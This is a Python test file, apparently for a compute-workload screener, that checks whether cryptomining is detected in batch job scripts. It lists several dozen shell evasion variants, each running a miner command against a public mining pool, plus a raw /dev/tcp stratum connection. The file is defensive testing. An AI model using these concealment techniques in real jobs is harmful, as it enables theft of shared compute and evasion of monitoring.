"""An exemption is no door: what a script prints, writes or comments and then runs is read as commands."""

import pytest

from tocsin.core.verdict import SEEN_FROM
from tocsin.workload.screening import Screener, builtin

MINER = "./kworker -o stratum+tcp://pool.supportxmr.com:3333 -u w1 -k"
RUN = {
    "echo to a log that is run": f"echo '{MINER}' > run.log; bash run.log",
    "on several lines": f"echo '{MINER}' > run.log\nchmod +x run.log\n./run.log",
    "appended": f"echo '#!/bin/bash' > run.log\necho '{MINER}' >> run.log\nsh run.log",
    "sourced": f"printf '%s\\n' '{MINER}' > env.log\n. ./env.log",
    "sourced by name": f"echo '{MINER}' > conf/env.log\nsource conf/env.log",
    "here-document that is run": f"cat > notes.md <<'E'\n{MINER}\nE\nbash notes.md",
    "copied and run": f"echo '{MINER}' > a.log\ncp a.log b\nbash b",
    "linked and run": f"echo '{MINER}' > a.log\nln -s a.log b\nbash b",
    "shown into another file": f"echo '{MINER}' > a.log\ncat a.log > b\nbash b",
    "by a pattern": f"echo '{MINER}' > a.log\nbash ./*.log",
    "by a variable": f"echo '{MINER}' > a.log\nfor f in *.log; do bash $f; done",
    "from standard input": f"echo '{MINER}' > a.log\nbash < a.log",
    "by xargs": f"echo '{MINER}' > a.log\nls *.log | xargs -n1 sh",
    "by find": f"echo '{MINER}' > a.log\nfind . -name '*.log' -exec bash {{}} \\;",
    "by Python": f"echo '{MINER}' > a.log\npython3 -c \"import os; os.system(open('a.log').read())\"",
    "submitted": f"echo '{MINER}' > a.log\nsbatch a.log",
    "by cron": f"echo '* * * * * {MINER}' > a.log\ncrontab a.log",
    "by BASH_ENV": f"echo '{MINER}' > a.log\nexport BASH_ENV=a.log\nbash -c true",
    "several lines in quotes": f"echo '#!/bin/sh\n{MINER}\n' > a.log\nsh a.log",
    "comment read back": f"# {MINER}\nsed -n 's/^# //p' \"$0\" > f; bash f",
    "comment read back by grep": f"#: {MINER}\ngrep '^#: ' $0 | cut -c4- | bash",
    "comment read back by awk": f"##{MINER}\nawk '/^##/ {{print substr($0, 3)}}' \"${{BASH_SOURCE[0]}}\" | sh",
    "end of the script": f"tail -n 1 $0 | bash; exit\n# {MINER}".replace("# ", ""),
    "redefined rm": f'rm() {{ "$@"; }}\nrm {MINER}',
    "redefined echo": f'function echo {{ command "$@"; }}\necho {MINER}',
    "redefined grep": f'grep () {{ "$@"; }}\ngrep {MINER}',
    "alias": f"shopt -s expand_aliases\nalias apt=env\napt {MINER}",
    "alias in quotes": f"alias which='nohup'\nwhich {MINER}",
    "alias of a variable": f"x=apt; alias $x=env\napt {MINER}",
    "redefined test": f'test() {{ "$@"; }}\ntest {MINER}',
    "hashed name": f"hash -p /usr/bin/env rm\nrm {MINER}",
    "piped": f"echo '{MINER}' | bash",
    "here-string": f"bash <<< '{MINER}'",
    "eval": f"eval 'echo x; {MINER}'",
    "behind an open quote": f'echo "$(echo \'"\')"\n{MINER}\necho "\'"',
    "Python, assigned": f'#!/usr/bin/env python3\nimport os\nfile = os.system("{MINER}")',
    "Python, printed": f'#!/usr/bin/env python3\nimport os\nprint(os.system("{MINER}"))',
    "behind a quoted here-document": f': "<<E"\n{MINER}\nE',
    "behind one in a text of several lines": f": '\ncat <<E\n'\n{MINER}\nE",
    "behind one in a comment": f"cat /etc/motd # <<E\n{MINER}\nE",
    "text and command": f"cat <<E\n{MINER}\nE\n{MINER}",
    "in awk": f"awk 'BEGIN {{system(\"{MINER}\")}}'",
    "in sed's own command": f"sed '1e {MINER}' /etc/hostname",
    "stratum by hand": 'exec 3<>/dev/tcp/10.0.0.1/3333\nprintf \'{"id":1,"method":"mining.subscribe","params":[]}\\n\' >&3',
}


@pytest.fixture(scope="module")
def shipped() -> Screener:
    return builtin()


@pytest.mark.parametrize("name", RUN)
def test_what_is_run_in_the_end_is_seen(name: str, shipped: Screener) -> None:
    [found] = shipped.screen(["#!/bin/bash\n#SBATCH -n 4\nmodule load gcc\n" + RUN[name] + "\n"])
    assert found.operations["cryptomining"] >= SEEN_FROM
